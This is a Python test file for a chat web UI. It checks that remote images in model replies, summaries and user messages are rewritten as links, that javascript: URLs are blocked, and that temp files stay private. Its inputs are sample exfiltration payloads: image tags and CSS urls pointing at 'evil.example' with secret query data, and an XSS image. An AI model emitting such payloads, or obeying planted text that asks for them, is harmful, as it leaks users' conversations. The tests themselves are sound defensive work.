"""Remote images in chat text become links (issue 10, defect 3): the rewrite of message text,
without a browser (tests/browser/test_browser_security.py checks what the page then fetches)."""
from __future__ import annotations

import os
import stat
import subprocess
import sys
import tempfile

from webui.server.private_files import make_root, sweep_stale, write_private
from webui.text.remote_media import safe_markdown
from webui.render.rows import chat_rows, summary_divider

O = "http://evil.example"


class TestImagesBecomeLinks:
    """A reply (or a file the model read) naming an image elsewhere: shown, the URL would be
    fetched at once and carry conversation data out."""

    def test_markdown_and_html_media_become_links_to_the_same_url(self):
        text = (f'![chart]({O}/a.png?d=secret "t") <img src={O}/b.png alt=x> '
                f'<img srcset="{O}/c.png 1x, {O}/d.png 2x"> <audio src="{O}/e.mp3"></audio> '
                f'<video poster="{O}/f.jpg"></video> <div style="background:url({O}/g.png)">y</div>')
        out = safe_markdown(text)
        for name in "abcdefg":
            assert f"{O}/{name}." in out
        assert "![" not in out and "<img" not in out and "<audio" not in out and "<video" not in out
        assert "url(" not in out
        assert f"[\u2197 image: chart \\(evil.example\\)]({O}/a.png?d=secret \"t\")" in out

    def test_code_is_left_as_written(self):
        text = f"`<img src='{O}/x.png'>`\n\n````md\n![a]({O}/y.png)\n```\n<img src={O}/z.png>\n````\n"
        assert safe_markdown(text) == text

    def test_inline_data_images_and_plain_text_are_untouched(self):
        for text in ("![dot](data:image/png;base64,AAAA)", "if a < b and c > d: ![not closed",
                     "plain text", r"\![escaped](http://x/y.png)"):
            assert safe_markdown(text) == text

    def test_a_script_url_never_becomes_a_link(self):
        out = safe_markdown('<img src="javascript:alert(1)">')
        assert "href" not in out and "<img" not in out

    def test_stored_messages_render_through_it(self):
        rows = chat_rows([{"role": "user", "content": f"see ![u]({O}/u.png)"},
                          {"role": "assistant", "content": f"<img src='{O}/r.png'>"}]).rows
        # a user's message is shown as typed (webui.text.chat_text): the image syntax as text, its URL a link
        assert rows[0]["content"].startswith('<pre class="ac-lit">') and f'href="{O}/u.png"' in rows[0]["content"]
        assert "<img" not in rows[1]["content"] and f'href="{O}/r.png"' in rows[1]["content"]

    def test_a_compaction_summary_renders_through_it(self):
        # the model writes the summary of a conversation that may have carried such an image
        row = summary_divider({"summary": f"We looked at ![plot]({O}/p.png?q=data).", "trigger": "manual"})
        assert "![" not in row["content"] and f"({O}/p.png?q=data)" in row["content"]


class TestPrivateTempFiles:
    """Files with conversation text readable by other users of the machine, or left behind by a
    run that was killed."""

    def test_written_files_are_0600_and_replace_whole(self, tmp_path):
        target = tmp_path / "x.md"
        target.write_text("old")
        os.chmod(target, 0o644)
        write_private(target, b"new")
        assert target.read_bytes() == b"new"
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        assert [p.name for p in tmp_path.iterdir()] == ["x.md"]

    def test_root_is_0700_and_folders_of_dead_runs_are_swept(self, tmp_path):
        dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                              capture_output=True, text=True, timeout=30).stdout.strip()
        stale = tmp_path / f"anycode-web-{dead}-abc"
        (stale / "exports").mkdir(parents=True)
        (stale / "exports" / "chat.md").write_text("secret")
        mine = tempfile.mkdtemp(prefix=f"anycode-web-{os.getpid()}-", dir=tmp_path)
        root = make_root(tmp_path)
        assert stat.S_IMODE(root.stat().st_mode) == 0o700
        assert not stale.exists()
        assert os.path.isdir(mine) and root.is_dir()
        assert sweep_stale(tmp_path) == []
